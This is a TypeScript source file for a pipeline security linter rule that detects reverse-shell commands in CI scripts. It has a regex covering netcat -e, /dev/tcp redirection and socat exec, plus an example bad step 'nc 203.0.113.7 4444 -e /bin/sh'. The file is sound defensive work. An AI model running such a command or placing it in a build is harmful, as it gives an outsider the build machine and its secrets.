import { say } from '../../texts/texts.ts';
import { defineRule, notApplicable } from '../rule.ts';
import { matchesIn, outcomeOf } from './parts.ts';

const shells =
  /(?:\b(?:nc|ncat|netcat)\b(?=[^\n|;&]*\s(?:-[a-z]*[ec]\b|--(?:sh-)?exec\b))[^\n|;&]*|\/dev\/(?:tcp|udp)\/[^\s/]+\/\d+\s*(?:0[>&<]|[^\n]*0>&1)|\bsocat\b[^\n]*\bexec:[^\n]*)/gi;

export const reverseShell = defineRule({
  id: 'reverse-shell',
  title: 'Shell opened to the outside',
  family: 'pipeline',
  practice: 'technology/security-and-policy/1/pipeline-protected',
  category: 'security',
  default: 'on',
  subject: 'pipeline',
  crossFile: false,
  severity: 'warning',
  check({ scripts }) {
    if (scripts.length === 0) return notApplicable;
    return outcomeOf(
      scripts.flatMap((script) =>
        matchesIn(script, shells, () => say`This connects a shell of the build machine to another address, as attackers do.`),
      ),
    );
  },
  fixSafety: null,
  rationale:
    'A command that ties a shell to a network connection gives whoever is at the other end the build machine, with its token and secrets. Builds have no use for it. Plain checks of whether a port answers, such as `nc -z`, are not meant.',
  how: [
    'Find out who added the line, and treat the secrets of the job as known to others if it has run.',
    'Remove it; to look into a failing run, use the debugging that the pipeline system offers, on a branch without secrets.',
  ],
  example: {
    language: 'yaml',
    bad: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: nc 203.0.113.7 4444 -e /bin/sh\n',
    good: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: nc -z localhost 8080\n',
  },
  hoverOn: ['jobs.steps.run'],
  equivalents: { checkov: ['CKV_GHA_4', 'CKV_CIRCLECIPIPELINES_5'] },
});
